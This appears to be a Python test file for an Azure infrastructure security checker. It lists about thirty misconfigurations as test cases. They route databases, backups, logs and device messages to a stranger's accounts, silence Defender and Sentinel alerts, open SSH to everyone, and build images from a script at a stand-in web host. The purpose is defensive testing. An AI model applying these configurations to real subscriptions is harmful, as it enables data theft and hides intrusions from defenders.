"""Attacks on Azure, of all concerns (2026-11-28, ninth set).

Properties by pulumi-azure-native 3.29.0; what a service does with them by its documentation, as known.
"""

from ..blind import GROUP, HERE, OURS, RG, SUB, TAGS, THEIR_SUB, THEIR_TENANT, THEIRS, az
from ..harness import Given
from . import Attack

RES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
ESC = ("FJ-ESC-", "FJ-IDN-", "FJ-EXP-", "FJ-RES-")
CLIENT = "11111111-2222-3333-4444-555555555555"
TAKEN = "a stranger has the data"
ADX = f"{OURS}.Kusto/clusters/adx"
CLOSED_AI = {"publicNetworkAccess": "Disabled", "disableLocalAuth": True, "networkAcls": {"defaultAction": "Deny"},
             "customSubDomainName": "ai-bank", "encryption": {"keySource": "Microsoft.KeyVault", "keyVaultProperties": {
                 "keyName": "cmk", "keyVersion": "0123456789abcdef0123456789abcdef",
                 "keyVaultUri": "https://kv-bank.vault.azure.net/", "identityClientId": CLIENT}}}  # fmt: skip


def _role(*actions: str, **more: object) -> tuple[Given, ...]:
    return (az("authorization:RoleDefinition", {
        "scope": GROUP, "roleName": "Operator", "roleType": "CustomRole", "assignableScopes": [GROUP],
        "description": "Operates the platform", "permissions": [{"actions": list(actions), **more}]}),)  # fmt: skip


ATTACKS = (
    Attack("a database is kept in step with one of a stranger", RES, (az("sql:SyncMember", {
        **RG, "serverName": "sql-bank", "databaseName": "orders", "syncGroupName": "all", "syncMemberName": "branch",
        "databaseType": "SqlServerDatabase", "syncDirection": "Bidirectional", "userName": "sync",
        "syncAgentId": f"{THEIRS}.Sql/servers/collector/databases/in/syncAgents/agent",
        "sqlServerDatabaseId": CLIENT}),),
        "critical", f"{TAKEN}, and writes to it (Azure SQL, 'SQL Data Sync')"),
    Attack("a database server may export to an account of a stranger", RES, (az("sql:OutboundFirewallRule", {
        **RG, "serverName": "sql-bank", "outboundRuleFqdn": "collector.blob.core.windows.net"}),),
        "critical", "the server's exports, audits and external tables may go there (Azure SQL, 'Outbound firewall "
        "rules')"),
    Attack("packets of machines are mirrored to a balancer of a stranger", RES, (az("network:VirtualNetworkTap", {
        **HERE, "tapName": "tap", "destinationPort": 4789, "destinationLoadBalancerFrontEndIPConfiguration": {
            "id": f"{THEIRS}.Network/loadBalancers/collector/frontendIPConfigurations/in"}}),),
        "critical", "each packet of the machines is copied (Azure, 'Virtual network TAP')"),
    Attack("customers of a name are led to a host of a stranger", RES, (az("trafficmanager:Profile", {
        **RG, "location": "global", "tags": TAGS, "profileName": "portal", "profileStatus": "Enabled",
        "trafficRoutingMethod": "Priority", "dnsConfig": {"relativeName": "portal-bank", "ttl": 30},
        "monitorConfig": {"protocol": "HTTPS", "port": 443, "path": "/"}, "endpoints": [{
            "name": "first", "type": "Microsoft.Network/trafficManagerProfiles/externalEndpoints", "priority": 1,
            "target": "portal.collector-app.io", "endpointStatus": "Enabled", "alwaysServe": "Enabled"}]}),),
        "critical", "it gets their passwords (Azure Traffic Manager, 'external endpoints')"),
    Attack("users of a stranger's tenant sign in to the network", ESC, (az("network:VpnServerConfiguration", {
        **HERE, "vpnServerConfigurationName": "people", "properties": {
            "vpnAuthenticationTypes": ["AAD"], "vpnProtocols": ["OpenVPN"], "aadAuthenticationParameters": {
                "aadTenant": f"https://login.microsoftonline.com/{THEIR_TENANT}/",
                "aadIssuer": f"https://sts.windows.net/{THEIR_TENANT}/",
                "aadAudience": "c632b3df-fb67-4d84-bdcf-b95ad541b5c8"}}}),),
        "critical", "they are inside (Azure Virtual WAN, 'User VPN with Microsoft Entra ID')"),
    Attack("every name of the network is asked at a resolver on the web", RES, (az("dnsresolver:ForwardingRule", {
        **RG, "dnsForwardingRulesetName": "hub", "forwardingRuleName": "all", "domainName": ".",
        "forwardingRuleState": "Enabled", "targetDnsServers": [{"ipAddress": "203.0.113.53", "port": 53}]}),),
        "critical", "it reads each name and answers with its own addresses (Azure DNS Private Resolver, 'rulesets')"),
    Attack("the filter of names lets every name pass first", ESC, (az("dnsresolver:DnsSecurityRule", {
        **HERE, "dnsResolverPolicyName": "hub", "dnsSecurityRuleName": "all", "priority": 100,
        "dnsSecurityRuleState": "Enabled", "action": {"actionType": "Allow"}, "dnsResolverDomainLists": [
            {"id": f"{OURS}.Network/dnsResolverDomainLists/everything"}]}),),
        "major", "rules that block malware are never reached (Azure DNS security policy, 'priority')"),
    Attack("alerts of one kind are suppressed for everything", ESC, (az("security:AlertsSuppressionRule", {
        "alertsSuppressionRuleName": "quiet", "alertType": "VM_CredentialAccess", "reason": "Noise",
        "state": "Enabled"}),),
        "major", "the attack is seen by nobody (Defender for Cloud, 'Suppress alerts')"),
    Attack("alerts are sent on to the events of a stranger", RES, (az("security:Automation", {
        **HERE, "automationName": "export", "isEnabled": True, "scopes": [{"scopePath": SUB}],
        "sources": [{"eventSource": "Alerts"}], "actions": [{
            "actionType": "EventHub", "eventHubResourceId": f"{THEIRS}.EventHub/namespaces/collector/eventhubs/in",
            "isTrustedServiceEnabled": False}]}),),
        "critical", "machines, users and commands stand in alerts (Defender for Cloud, 'continuous export')"),
    Attack("ssh is opened for every address on request", ESC, (az("security:JitNetworkAccessPolicy", {
        **RG, "ascLocation": "uaenorth", "jitNetworkAccessPolicyName": "default", "kind": "Basic", "virtualMachines": [{
            "id": f"{OURS}.Compute/virtualMachines/vm", "ports": [{
                "number": 22, "protocol": "*", "allowedSourceAddressPrefix": "*",
                "maxRequestAccessDuration": "PT24H"}]}]}),),
        "critical", "a request adds the rule for the whole internet (Defender for Cloud, 'just-in-time access')"),
    Attack("each incident is closed as soon as it is there", ESC, (az("securityinsights:AutomationRule", {
        **RG, "workspaceName": "logs", "automationRuleId": CLIENT, "displayName": "Quiet", "order": 1,
        "triggeringLogic": {"isEnabled": True, "triggersOn": "Incidents", "triggersWhen": "Created"},
        "actions": [{"actionType": "ModifyProperties", "order": 1, "actionConfiguration": {
            "status": "Closed", "classification": "BenignPositive",
            "classificationReason": "SuspiciousButExpected"}}]}),),
        "major", "nobody looks at what Sentinel finds (Microsoft Sentinel, 'automation rules')"),
    Attack("rules and playbooks of the guard come from a stranger's repository", ESC, (
        az("securityinsights:SourceControl", {
            **RG, "workspaceName": "logs", "sourceControlId": CLIENT, "displayName": "content", "repoType": "Github",
            "contentTypes": ["AnalyticsRule", "AutomationRule", "Playbook"], "repository": {
                "url": "https://github.com/collector/content", "branch": "main"}}),),
        "critical", "playbooks run with the workspace's rights (Microsoft Sentinel, 'repositories')"),
    Attack("an application of a publisher brings its own rights into the subscription", ESC, (
        az("solutions:Application", {
            **HERE, "applicationName": "scanner", "kind": "MarketPlace",
            "managedResourceGroupId": f"{SUB}/resourceGroups/rg-scanner", "plan": {
                "name": "standard", "product": "scanner-preview", "publisher": "collector", "version": "1.0.0"}}),),
        "critical", "its publisher owns the managed group and what is in it (Azure Managed Applications)"),
    Attack("a kind of resource is created by a server on the web", ESC, (az("customproviders:CustomResourceProvider", {
        **HERE, "resourceProviderName": "platform", "resourceTypes": [{
            "name": "users", "routingType": "Proxy", "endpoint": "https://arm.collector-app.io/{requestPath}"}]}),),
        "critical", "each request with its body goes there (Azure Custom Resource Providers)"),
    Attack("a cluster of a stranger is a member of the fleet", ESC, (az("containerservice:FleetMember", {
        **RG, "fleetName": "fleet", "fleetMemberName": "branch", "group": "prod",
        "clusterResourceId": f"{THEIRS}.ContainerService/managedClusters/collector"}),),
        "critical", "namespaces with their secrets are placed there (Azure Kubernetes Fleet Manager, 'placement')"),
    Attack("an app and its database are saved in a stranger's account", RES, (az("web:WebAppBackupConfiguration", {
        **RG, "name": "portal", "enabled": True, "backupName": "nightly", "backupSchedule": {
            "frequencyInterval": 1, "frequencyUnit": "Day", "keepAtLeastOneBackup": True, "retentionPeriodInDays": 30},
        "databases": [{"databaseType": "SqlAzure", "name": "orders", "connectionStringName": "orders"}],
        "storageAccountUrl": "https://collector.blob.core.windows.net/in?sv=2024-11-04&sr=c&sp=rw&sig=x"}),),
        "critical", f"{TAKEN} every night (App Service, 'Back up and restore')"),
    Attack("an app loads an extension of a stranger beside its code", ESC, (az("web:WebAppSiteExtension", {
        **RG, "name": "portal", "siteExtensionId": "Collector.Apm.Agent"}),),
        "critical", "its code reads settings, secrets and requests (App Service, 'site extensions')"),
    Attack("a connector of workflows calls an API of a stranger", RES, (az("web:CustomApi", {
        **HERE, "apiName": "crm", "properties": {
            "apiType": "Rest", "displayName": "CRM", "backendService": {"serviceUrl": "https://crm.collector-app.io"},
            "swagger": {"swagger": "2.0", "host": "crm.collector-app.io", "basePath": "/", "schemes": ["https"],
                        "info": {"title": "CRM", "version": "1"}, "paths": {}}}}),),
        "critical", "what workflows hand to it leaves (Logic Apps, 'custom connectors')"),
    Attack("an app is linked with a broker abroad", RES, (az("servicelinker:Linker", {
        "resourceUri": f"{OURS}.Web/sites/portal", "linkerName": "events", "clientType": "java",
        "targetService": {"type": "ConfluentBootstrapServer",
                          "endpoint": "pkc-56d1g.westeurope.azure.confluent.cloud:9092"},
        "authInfo": {"authType": "secret", "name": "key", "secretInfo": {
            "secretType": "keyVaultSecretReference", "name": "confluent"}}}),),
        "critical", "events go to a vendor in the Netherlands (Service Connector, 'Confluent Kafka')"),
    Attack("requests of every API are logged by a stranger", RES, (az("apimanagement:Logger", {
        **RG, "serviceName": "apim-bank", "loggerId": "events", "loggerType": "azureEventHub", "credentials": {
            "name": "in", "endpointAddress": "collector.servicebus.windows.net", "identityClientId": "SystemAssigned"},
        }),),
        "critical", "log-to-eventhub sends bodies and tokens (API Management, 'Log events to Event Hubs')"),
    Attack("answers of APIs are remembered in a cache of a stranger", RES, (az("apimanagement:Cache", {
        **RG, "serviceName": "apim-bank", "cacheId": "default", "useFromLocation": "default", "connectionString":
            "cache.collector-app.io:6380,password={{cache-key}},ssl=True,abortConnect=False"}),),
        "critical", f"{TAKEN}, and answers in the bank's name (API Management, 'external cache')"),
    Attack("messages of devices are routed to a stranger", RES, (az("iothub:IotHubResource", {
        **HERE, "resourceName": "devices", "sku": {"name": "S1", "capacity": 1}, "identity": {"type": "SystemAssigned"},
        "properties": {
            "publicNetworkAccess": "Disabled", "disableLocalAuth": True, "minTlsVersion": "1.2", "routing": {
                "endpoints": {"eventHubs": [{
                    "name": "in", "authenticationType": "identityBased", "entityPath": "in",
                    "endpointUri": "sb://collector.servicebus.windows.net"}]},
                "routes": [{"name": "all", "source": "DeviceMessages", "isEnabled": True, "condition": "true",
                            "endpointNames": ["in"]}]}}}),),
        "critical", f"{TAKEN} (Azure IoT Hub, 'message routing')"),
    Attack("messages of the plant flow to a broker on the web", RES, (az("iotoperations:DataflowEndpoint", {
        **RG, "instanceName": "plant", "dataflowEndpointName": "out", "extendedLocation": {
            "name": f"{OURS}.ExtendedLocation/customLocations/plant", "type": "CustomLocation"},
        "properties": {"endpointType": "Kafka", "kafkaSettings": {
            "host": "broker.collector-app.io:9093", "tls": {"mode": "Enabled"}, "authentication": {
                "method": "Sasl", "saslSettings": {"saslType": "Plain", "secretRef": "broker"}}}}}),),
        "critical", f"{TAKEN} (Azure IoT Operations, 'Kafka dataflow endpoints')"),
    Attack("queues and topics have their twin abroad", RES, (az("servicebus:DisasterRecoveryConfig", {
        **RG, "namespaceName": "sb-bank", "alias": "sb",
        "partnerNamespace": f"{THEIRS}.ServiceBus/namespaces/sb-uksouth"}),),
        "critical", "after a failover each message is accepted there (Azure Service Bus, 'Geo-disaster recovery')"),
    Attack("disks of machines are replicated to another region", RES, (az("recoveryservices:ReplicationFabric", {
        **RG, "resourceName": "rsv", "fabricName": "far", "properties": {"customDetails": {
            "instanceType": "Azure", "location": "westeurope"}}}),),
        "critical", "every write is copied abroad (Azure Site Recovery, 'Azure to Azure')"),
    Attack("an account of AI may send to a list with a host of a stranger", RES, (az("cognitiveservices:Account", {
        **HERE, "accountName": "ai-bank", "kind": "AIServices", "sku": {"name": "S0"}, "identity": {
            "type": "SystemAssigned"}, "properties": {
                **CLOSED_AI, "restrictOutboundNetworkAccess": True,
                "allowedFqdnList": ["kv-bank.vault.azure.net", "in.collector-app.io"]}}, "ai", protect=True),),
        "critical", "agents and data of one's own may be sent there (Azure AI services, 'data loss prevention')"),
    Attack("every alert goes to the events of another tenant", RES, (az("monitor:ActionGroup", {
        **RG, "location": "global", "tags": TAGS, "actionGroupName": "team", "groupShortName": "team", "enabled": True,
        "eventHubReceivers": [{
            "name": "in", "eventHubNameSpace": "collector", "eventHubName": "in", "tenantId": THEIR_TENANT,
            "subscriptionId": THEIR_SUB.rpartition("/")[2], "useCommonAlertSchema": True}]}),),
        "major", "queries' results and names of machines (Azure Monitor, 'Action groups')"),
    Attack("a test calls the portal with its token from other countries", RES, (az("applicationinsights:WebTest", {
        **HERE, "webTestName": "portal", "syntheticMonitorId": "portal", "webTestKind": "standard", "enabled": True,
        "frequency": 300, "timeout": 30, "locations": [{"location": "emea-nl-ams-azr"}, {"location": "us-va-ash-azr"}],
        "request": {"requestUrl": "https://api.example.ae/v1/customers", "httpVerb": "GET", "headers": [
            {"headerFieldName": "Ocp-Apim-Subscription-Key", "headerFieldValue": "{{monitoring-key}}"}]}}),),
        "major", "answers with rows are read and kept abroad (Application Insights, 'standard test')"),
    Attack("machines of a recipe run a script from the web", ESC, (az(
        "virtualmachineimages:VirtualMachineImageTemplate", {
        **HERE, "imageTemplateName": "golden", "buildTimeoutInMinutes": 90,
        "identity": {"type": "UserAssigned", "userAssignedIdentities": [
            f"{OURS}.ManagedIdentity/userAssignedIdentities/builder"]},
        "source": {"type": "PlatformImage", "publisher": "canonical", "offer": "ubuntu-24_04-lts", "sku": "server",
                   "version": "latest"},
        "customize": [{"type": "Shell", "name": "agents", "scriptUri": "https://get.collector-app.io/agent.sh"}],
        "distribute": [{"type": "SharedImage", "runOutputName": "golden", "galleryImageId":
                        f"{OURS}.Compute/galleries/g/images/golden", "targetRegions": [{"name": "uaenorth"}]}]}),),
        "critical", "each machine of the bank starts with it (Azure VM Image Builder, 'customize')"),
    Attack("a custom role downloads every disk and snapshot", ESC, _role(
        "Microsoft.Compute/disks/read", "Microsoft.Compute/disks/beginGetAccess/action",
        "Microsoft.Compute/snapshots/read", "Microsoft.Compute/snapshots/beginGetAccess/action"),
        "critical", "an address with a signature gives the whole disk (Azure Disks, 'Grant access')"),
    Attack("a custom role signs in to every machine as its administrator", ESC, _role(
        "Microsoft.Compute/virtualMachines/read",
        dataActions=["Microsoft.Compute/virtualMachines/login/action",
                     "Microsoft.Compute/virtualMachines/loginAsAdmin/action"]),
        "critical", "it acts with each machine's identity (Azure, 'Virtual Machine Administrator Login')"),
    Attack("tags of the group replace what resources say of their costs", ("FJ-COST-", "FJ-TAG-", "FJ-ESC-"), (
        az("costmanagement:TagInheritanceSetting", {
            "scope": SUB[1:], "kind": "taginheritance", "type": "taginheritance",
            "properties": {"preferContainerTags": True}}),),
        "minor", "costs of a team are booked on the group's centre (Cost Management, 'tag inheritance')"),
    Attack("every person may make groups of subscriptions at the root", ESC, (az("management:HierarchySetting", {
        "groupId": "00000000-1111-2222-3333-444444444444", "requireAuthorizationForGroupCreation": False}),),
        "minor", "groups without the bank's policies come up (Azure, 'Protect your resource hierarchy')"),
)  # fmt: skip
